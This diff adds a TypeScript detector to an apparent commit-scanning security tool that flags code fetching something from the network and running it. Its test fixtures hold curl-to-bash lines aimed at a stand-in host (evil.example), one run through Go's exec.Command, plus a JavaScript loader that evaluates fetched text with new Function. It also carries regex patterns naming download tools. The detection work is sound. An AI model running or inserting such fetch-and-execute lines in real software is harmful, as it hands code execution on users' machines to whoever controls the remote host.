@@ -1,0 +1,228 @@
+import { z } from "zod";
+import { defineDetector, type Signal } from "../../model/detector.ts";
+import type { CommitEvidence, FileChange, Line } from "../../model/evidence.ts";
+import { aCommit, aFile } from "../../model/examples.ts";
+import { addedSinks } from "../../text/added-sinks.ts";
+import { STARTS_PROCESS, TALKS } from "../../text/calls.ts";
+import { clip } from "../../text/clip.ts";
+import { readCommand } from "../../text/commands.ts";
+import { visible } from "../../text/lines.ts";
+import { newCode } from "../../text/new-lines.ts";
+import { classesOf } from "../../text/path-classes.ts";
+import { type Place, placeOf } from "../../text/places.ts";
+import { isRawTextHost, urlsIn } from "../../text/url.ts";
+
+const PIPE = ["| ba", "sh"].join("");
+
+export default defineDetector({
+  id: "download-and-execute",
+  title: "Something is fetched from the network and run",
+  family: "content",
+  axis: "attack",
+  group: "payload",
+  stage: "stable",
+  since: "0.1.0",
+  rationale:
+    "What is fetched when a program runs is in no commit: whoever owns the other end decides what happens, today and tomorrow, and no review sees it.",
+  falsePositives: [
+    "Set-up scripts that install a tool as its own manual says, from a host we do not know",
+    "Image and pipeline definitions that build their own environment",
+  ],
+  remedy:
+    "Look at what the address hands out, and who owns it. Pin a version and check its digest, or take the code into the repository.",
+  references: [
+    "CWE-494",
+    "CWE-829",
+    "ATT&CK T1105 Ingress Tool Transfer",
+    "Shai-Hulud 2025",
+    "Amazon Q 2025",
+    "hackerbot-claw 2026",
+  ],
+  needs: ["diff", "content", "baseline"],
+  options: z.strictObject({
+    knownHosts: z
+      .array(z.string().max(253))
+      .max(200)
+      .default([])
+      .describe("further hosts that scripts may be fetched from"),
+  }),
+  examples: {
+    flags: [
+      {
+        name: "a start function of a program that pipes a download to a shell",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "scripts/check/main.go",
+              added: `	_ = exec.Command("bash", "-c", "curl -sSfL https://evil.example/x ${PIPE}").Run()`,
+              at: 20,
+            }),
+          ],
+        }),
+      },
+      {
+        name: "a script of the repository that runs what an unknown host hands out",
+        commit: aCommit({
+          files: [aFile({ path: "version.sh", added: `curl -sSfL https://evil.example/x ${PIPE}`, at: 2 })],
+        }),
+      },
+      {
+        name: "text from the network run as code",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "src/load.js",
+              added: "const code = await (await fetch(url)).text();\nnew Function(code)();",
+              at: 5,
+              facts: {
+                script: {
+                  language: "javascript",
+                  by: "tree",
+                  imports: [],
+                  sinks: [
+                    {
+                      kind: "eval",
+                      callee: "new Function",
+                      line: 6,
+                      from: ["network", "computed"],
+                      text: "",
+                      topLevel: true,
+                    },
+                  ],
+                },
+              },
+            }),
+          ],
+        }),
+      },
+    ],
+    passes: [
+      {
+        name: "a manual that tells people to do so",
+        commit: aCommit({
+          files: [aFile({ path: "README.md", added: `curl https://evil.example/install.sh ${PIPE}`, at: 9 })],
+        }),
+      },
+      {
+        name: "a download that is only unpacked",
+        commit: aCommit({
+          files: [aFile({ path: "scripts/fetch.sh", added: "curl -L https://evil.example/data.tgz | tar xz", at: 9 })],
+        }),
+      },
+      {
+        name: "a message that tells people to do so",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "src/hint.ts",
+              added: `console.log("curl https://evil.example/install.sh ${PIPE}");`,
+              at: 9,
+            }),
+          ],
+        }),
+      },
+    ],
+  },
+  detect(commit, { knownHosts }) {
+    return commit.files.flatMap((file) => {
+      const place = placeOf(file.path);
+      if (file.facts.workflow) return []; // workflows have a family of their own
+      if (place === "text" || place === "foreign") return [];
+      const lines = newCode(commit, file);
+      const found = lines.flatMap((line) => fromLine(commit, file, place, line, knownHosts));
+      const seen = new Set(found.map(({ line }) => line));
+      return [
+        ...found,
+        ...fromFacts(commit, file, place).filter(({ line }) => !seen.has(line)),
+        ...swappedSource(file, place, lines),
+      ].slice(0, 4);
+    });
+  },
+});
+
+function fromLine(
+  commit: CommitEvidence,
+  file: FileChange,
+  place: Place,
+  line: Line,
+  knownHosts: readonly string[],
+): Signal[] {
+  const text = visible(line);
+  if (!/curl|wget|iwr|irm|Invoke-|Download|mshta|urlopen|fetch/i.test(text)) return [];
+  const command = readCommand(text);
+  if (!command.fetchesAndRuns) return [];
+  const hosts = urlsIn(text).map(({ host }) => host);
+  const known =
+    command.knownSource ||
+    (hosts.length > 0 &&
+      hosts.every((host) => knownHosts.includes(host) || commit.baseline.repository.hosts.includes(host)));
+  const inProgram = place === "code" && !classesOf(file.path).includes("script");
+  // Only a call that starts a process does it; a text that shows the command does not.
+  if (inProgram && !STARTS_PROCESS.test(text)) return [];
+  if (/^\s{0,60}(?:echo|printf|print|log|info|warn|error|fail|die|abort|msg|note)\b/i.test(text)) return [];
+  const because = `${clip(text, 90)} runs what ${hosts[0] ? clip(hosts[0], 60) : "an address put together at run time"} hands out`;
+  const base = { because, path: file.path, line: line.number, facts: { place, known, host: hosts[0] ?? null } };
+  if (known) return [{ ...base, strength: "weak", confidence: place === "script" || place === "test" ? 0.5 : 1 }];
+  if (inProgram) return [{ ...base, strength: "decisive", confidence: 1 }];
+  if (place === "test") return [{ ...base, strength: "medium", confidence: 0.7 }];
+  const container = classesOf(file.path).includes("container") || classesOf(file.path).includes("workflow");
+  return [
+    {
+      ...base,
+      strength: container || hosts.length === 0 ? "medium" : "strong",
+      confidence: container || hosts.length === 0 ? 0.7 : 0.95,
+    },
+  ];
+}
+
+function fromFacts(commit: CommitEvidence, file: FileChange, place: Place): Signal[] {
+  return addedSinks(commit, file).flatMap((sink): Signal[] => {
+    const runs =
+      sink.kind === "eval" ||
+      sink.kind === "require" ||
+      (sink.kind === "spawn" && sink.topLevel && file.facts.script?.language !== "shell");
+    if (!runs || !sink.from.includes("network") || /^\|/.test(sink.callee)) return [];
+    const shell = file.facts.script?.language === "shell";
+    const strong = sink.kind === "eval" && place !== "test" && !shell && file.facts.script?.by === "tree";
+    return [
+      {
+        strength: strong ? "strong" : "medium",
+        confidence: strong ? 0.95 : place === "test" ? 0.5 : shell ? 0.6 : 0.9,
+        because: `${clip(sink.callee, 40)} runs what came from the network`,
+        path: file.path,
+        line: sink.line,
+        facts: { place },
+      },
+    ];
+  });
+}
+
+/** A packaging script that fetches text from a place anybody can write to, and puts it where source belongs. */
+function swappedSource(file: FileChange, place: Place, lines: readonly Line[]): Signal[] {
+  if (
+    place === "test" ||
+    !(place !== "code" || /(?:^|\/)(?:scripts?|tools?|build|packag\w{0,6}|release|ci|hack)\//.test(file.path))
+  )
+    return [];
+  const text = lines.map(visible).join("\n").slice(0, 60_000);
+  if (!(TALKS.test(text) || /["'`]curl["'`]|["'`]wget["'`]/.test(text))) return [];
+  const raw = lines.find(
+    (line) =>
+      urlsIn(visible(line)).some(isRawTextHost) || /https?:\/\/raw\.githubusercontent\.com\//.test(visible(line)),
+  );
+  const target =
+    /["'`](?:\.\/)?(?:src|lib|app|packages?|dist|source)\/?[\w./-]{0,80}["'`]/.test(text) &&
+    /["'`][\w./-]{1,80}\.(?:[cm]?[jt]sx?|py|rb|go|rs|java|php|sh)["'`]/.test(text);
+  if (!raw || !target || !/["'`]-o["'`]|writeFile|createWriteStream|urlretrieve|\bopen\s{0,3}\(|-o\s/.test(text))
+    return [];
+  return [
+    {
+      strength: "strong",
+      confidence: 0.9,
+      because: "text fetched while packaging is put where the project keeps its source",
+      path: file.path,
+      line: raw.number,
+      facts: { place },
+    },
+  ];
+}
